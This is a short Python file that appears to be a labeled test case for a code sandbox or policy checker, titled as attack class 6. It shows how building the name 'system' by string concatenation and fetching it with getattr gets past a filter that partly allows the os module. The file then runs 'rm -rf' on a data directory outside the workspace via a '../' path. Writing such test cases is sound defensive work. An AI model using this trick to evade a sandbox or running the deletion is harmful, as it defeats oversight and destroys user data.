# attack-class: 6
# title: getattr(os, 'sys'+'tem')
# why: os is partially allowed; getattr with a computed name reaches os.system

import os

run = getattr(os, "sys" + "tem")
run("rm -rf /workspace/../data")
